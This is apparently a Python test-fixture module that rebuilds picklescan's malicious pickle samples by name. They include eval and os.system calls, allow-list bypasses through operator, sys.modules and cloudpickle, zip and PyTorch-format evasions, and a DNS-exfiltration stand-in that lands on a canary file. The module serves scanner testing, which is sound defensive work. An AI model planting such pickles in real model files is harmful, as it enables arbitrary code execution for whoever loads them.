"""The bad samples of picklescan's tests (https://github.com/mmaitre314/picklescan, 1.0.5, MIT), put together again by their names.

Each imports and calls what the original does, as its advisories and the lists in `test_scanner.py` and `init_data_files.py` say, by
instructions of the same kinds; what they call here would leave a canary behind. The few that those lists only name are ours.
"""

import pickle
from collections.abc import Iterator
from pathlib import Path

from tests.hub.gate.pickling import archive, call, checkpoint, flags_set, put, stacked

__all__ = ["samples"]

MAGIC = 0x1950A86A20F9469CFC6C


def samples(canary: Path) -> dict[str, bytes]:
    """Every sample by its name."""
    return dict([*_plain(canary), *_assembled(canary), *_advisories(canary), *_packed(canary)])


def _plain(canary: Path) -> Iterator[tuple[str, bytes]]:
    python, shell = f"open({str(canary)!r}, 'w').close()", f"touch {canary}"
    for protocol, builtins in ((0, "__builtin__"), (3, "builtins"), (4, "builtins")):
        yield f"malicious1_v{protocol}.pkl", call(builtins, "eval", python, protocol=protocol)
        yield f"malicious2_v{protocol}.pkl", call("posix", "system", shell, protocol=protocol)
    yield "malicious3.pkl", call("httplib", "HTTPSConnection", "github.com", protocol=0)
    yield "malicious4.pickle", call("requests.api", "get", "https://github.com")
    yield "malicious5.pickle", call("aiohttp.client", "ClientSession")
    yield "malicious6.pkl", pickle.dumps(["a", "b", "c"]) + call("requests.api", "get", "https://github.com")
    yield "malicious7.pkl", call("socket", "create_connection", ("github.com", 80))
    yield "malicious8.pkl", call("subprocess", "run", ["touch", str(canary)])
    yield "malicious9.pkl", call("sys", "exit", 0)
    inner = call("posix", "system", shell, protocol=2)
    yield (
        "malicious13a.pkl",
        b"c_codecs\nencode\n(V"
        + inner.decode("latin1").replace("\n", "\\u000a").encode()
        + b"\nVlatin1\ntRp0\n0cpickle\nloads\n(g0\ntR.",
    )
    yield "malicious13b.pkl", call("_pickle", "loads", inner)
    yield "malicious14.pkl", call("runpy", "_run_code", python)
    for name, protocol in (("malicious15a.pkl", 2), ("malicious15b.pkl", 4)):
        bdb = b"cbdb\nBdb\n)\x81" if protocol == 2 else stacked("bdb", "Bdb") + b")\x81"
        run = b"c__builtin__\ngetattr\n" + bdb + put("run") + b"\x86R" if protocol == 2 else stacked("bdb", "Bdb.run")
        yield (
            name,
            bytes([0x80, protocol])
            + run
            + (b"" if protocol == 2 else b"(" + bdb)
            + put(python)
            + (b"\x85R." if protocol == 2 else b"tR."),
        )
    yield "malicious16.pkl", call("pip", "main", ["install", "some_malicious_package"], protocol=0)
    yield "malicious17.pkl", call("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", shell])
    yield "malicious18.pkl", call("pydoc", "pipepager", "", shell)
    partial = stacked("functools", "partial") + stacked("torch.serialization", "load") + b"\x85R"
    state = b"(" + stacked("torch.serialization", "load") + put(("other.bin",)) + put({"weights_only": False}) + b"Ntb"
    yield "malicious19.pkl", b"\x80\x04" + partial + state + b")R."
    yield "malicious20.pkl", call("venv", "create", "venv", False, False, True, False, f"$({shell})")
    yield "malicious21.pkl", call("timeit", "timeit", "", python)
    yield "malicious22.pkl", call("numpy.testing._private.utils", "runstring", python, {})
    yield "io_FileIO.pkl", call("_io", "FileIO", str(canary), "w")
    yield "urllib_request_urlopen.pkl", call("urllib.request", "urlopen", "https://example.invalid")
    yield "logging_FileHandler.pkl", call("logging", "FileHandler", str(canary))
    yield "types_CodeType.pkl", call("types", "CodeType", 0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", "", 0, b"", b"", (), ())
    yield "importlib_bypass.pkl", call("importlib", "import_module", "antigravity")
    yield (
        "marshal_bypass.pkl",
        b"\x80\x04" + stacked("types", "FunctionType") + stacked("marshal", "loads") + put((b"\xe3",)) + b"R}\x86R)R.",
    )
    parts = [stacked("cloudpickle.cloudpickle", name) for name in ("subimport", "_make_empty_cell", "_make_cell", "_builtin_type")]
    made = b"".join(part + put(("os",)) + b"R0" for part in parts)
    function = stacked("cloudpickle.cloudpickle", "_make_function") + b")R"
    setstate = stacked("cloudpickle.cloudpickle", "_function_setstate")
    yield "cloudpickle_codeinjection.pkl", b"\x80\x05" + made + function + b"}}\x86" + setstate + b"\x86R."


def _assembled(canary: Path) -> Iterator[tuple[str, bytes]]:
    shell = f"touch {canary}".encode()
    yield (
        "malicious0.pkl",
        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'open(\""
        + str(canary).encode()
        + b"\",\"w\")'\nS''\nS'exec'\ntRp101\n"
        b"0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n"
        b"(g100\nS'picklesmashed'\nltRp104\n0g104\n.",
    )
    yield "malicious10.pkl", b"(S'raise RuntimeError(1)'\ni__builtin__\nexec\n."
    memo = b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V" + shell + b"\ntR."
    yield "malicious11.pkl", memo
    yield "malicious-invalid-bytes.pkl", memo + b"\n\n\t\t"
    for name, operator in (("malicious12.pkl", "operator"), ("GHSA-46h3-79wf-xr6c.pkl", "_operator")):
        system = (
            stacked(operator, "attrgetter") + put(("system",)) + b"R" + stacked("builtins", "__import__") + put(("os",)) + b"R\x85R"
        )
        yield name, b"\x80\x04" + system + put((shell.decode(),)) + b"R."
    caller = stacked("_operator", "methodcaller") + put(("system", shell.decode())) + b"R"
    yield "GHSA-955r-x9j8-7rhh.pkl", b"\x80\x04" + caller + stacked("builtins", "__import__") + put(("os",)) + b"R\x85R."
    caller = stacked("operator", "methodcaller") + put(("system", shell.decode())) + b"R"
    yield "GHSA-84r2-jw7c-4r5q.pkl", b"\x80\x04" + caller + stacked("pydoc", "locate") + put(("os",)) + b"R\x85R."
    yield "malicious23.pkl", b"S'os'\nS'system'\n\x93S'" + shell + b"'\n\x85R."
    acts = b"\x80\x04cos\nsystem\nV" + shell + b"\n\x85R0"
    yield "keyerror-exploit.pkl", acts + b"\x8c\x02os\x94h\x03h\x00\x93K\x42."
    yield "type-confusion-exploit.pkl", acts + b"J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42."
    yield "broken_model.pkl", b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX."
    # A module of the allow-list's is replaced in `sys.modules`, and a name that is on the list is then another's.
    replaced = (
        b"csys\nmodules\n" + put("torch._utils") + b"cos\n__dict__\ns0" + b"ctorch\n_utils\n0ctorch._utils\n_rebuild_tensor\n"
    )
    yield "sys_module_override_sploit.pkl", b"\x80\x02" + replaced + put((shell.decode(),)) + b"R."
    magic = b"c__builtin__\neval\n(V" + hex(MAGIC).encode() + b"\ntR."
    yield "pytorch_magic_bypass.pt", magic + put_whole(1001) + put_whole({}) + call("posix", "system", shell.decode(), protocol=2)


def put_whole(value: object) -> bytes:
    return pickle.dumps(value, 2)


def _advisories(canary: Path) -> Iterator[tuple[str, bytes]]:
    python = f"open({str(canary)!r}, 'w').close()"
    shell = f"touch {canary}"
    torch = "torch.utils"
    for number, module, name, *arguments in (
        ("4r9r-ch6f-vxmx", f"{torch}.bottleneck.__main__", "run_cprofile", python, {}),
        ("86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get", {}, python),
        ("f4x7-rfwp-v3xw", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", {}, python, []),
        ("f745-w6jp-hpxx", f"{torch}.collect_env", "run", shell),
        ("jhph-76pp-mggw", f"{torch}.collect_env", "run_and_read_all", None, shell),
        ("h3qp-7fh3-f8h4", f"{torch}.data.datapipes.utils.decoder", "basichandlers", "pickle", b""),
        ("vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper", python, {}, {}),
        ("vv6j-3g6g-2pvj", f"{torch}._config_module", "ConfigModule.load_config", {}, b""),
        ("5qwp-399c-mjwf", "trace", "Trace.run", {}, python),
        ("g344-hcph-8vgg", "trace", "Trace.runctx", {}, python, {}, {}),
        ("x696-vm39-cp64", "profile", "Profile.run", {}, python),
        ("6vqj-c2q5-j97w", "profile", "Profile.runctx", {}, python, {}, {}),
        ("f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads", {}, b""),
        ("3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", {}, python),
        ("6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity", {}, python),
        ("7cq8-mj8x-j263", "idlelib.autocomplete", "AutoComplete.fetch_completions", {}, python, 1),
        ("cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode", {}, python),
        ("8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", {}, python),
        ("9xph-j2h6-g47v", "idlelib.calltip", "get_entity", python),
        ("4whj-rm5r-c2v8", f"{torch}.bottleneck.__main__", "run_autograd_prof", python, {}),
        ("xp4f-hrf8-rxw7", "ensurepip", "_run_pip", shell),
        ("p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, {}, '""+' + python),
        ("m869-42cg-3xwr", "idlelib.run", "Executive.runcode", {}, python),
        ("j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", {}, python),
        ("3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", {}, python),
        ("fqq6-7vqf-w3fg", "doctest", "debug_script", python, True),
        ("9w88-8rmg-7g2p", "cProfile", "runctx", python, None, None),
        ("49gj-c84q-6qm9", "cProfile", "run", python),
        ("7wx9-6375-f5wh", "profile", "run", python),
        ("q77w-mwjj-7mqx", "asyncio.unix_events", "_UnixSubprocessTransport._start", {}, shell, True, None, None, None, 0),
        ("m273-6v24-x4m4", "distutils.file_util", "write_file", str(canary), ["x"]),
        ("4675-36f9-wf6r", "ctypes", "CDLL", None),
        ("vqmv-47xg-9wpr", "pty", "spawn", ["/bin/sh", "-c", shell]),
        ("r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef", python, []),
        ("9m3x-qqw2-h32h", "numpy.f2py.crackfortran", "_eval_length", python, {}),
        ("vvpj-8cmc-gx39", "pkgutil", "resolve_name", "os:system"),
        ("g38g-8gr9-h9xp-uuid", "uuid", "_get_command_stdout", "touch", str(canary)),
        ("g38g-8gr9-h9xp-osx-support", "_osx_support", "_read_output", shell),
        ("g38g-8gr9-h9xp-aix-support", "_aix_support", "_read_cmd_output", shell),
        ("g38g-8gr9-h9xp-imaplib", "imaplib", "IMAP4_stream", shell),
        ("g38g-8gr9-h9xp-pyrepl-pager", "_pyrepl.pager", "pipe_pager", "", shell),
        ("g38g-8gr9-h9xp-test", "test.support.script_helper", "assert_python_ok", "-c", python),
    ):
        yield f"GHSA-{number}.pkl", call(module, name, *arguments)
    yield "GHSA-jgw4-cr84-mqxg.bin", call("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, shell, True)


def _packed(canary: Path) -> Iterator[tuple[str, bytes]]:
    bad = call("builtins", "eval", f"open({str(canary)!r}, 'w').close()")
    whole = archive(("data.pkl", bad))
    yield "malicious1.zip", whole
    yield "malicious1_central_directory.zip", whole.replace(b"data.pkl", b"datap.kl", 1)
    for flags in (0x1, 0x20, 0x40):
        yield f"malicious1_0x{flags:x}.zip", flags_set(whole, flags)
    yield "malicious1_wrong_ext.zip", archive(("data.txt", bad))
    yield "malicious1_crc.zip", whole.replace(b"close", b"cl0se", 1)
    yield "malicious1.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bad
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    exfiltration = call("ssl", "get_server_certificate", ("x.dns-logger.invalid", 443))
    yield "dns_exfiltration.npy", b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + exfiltration
    # Not of the corpus: the same inside what torch reads.
    yield "checkpoint.pth", checkpoint(bad)
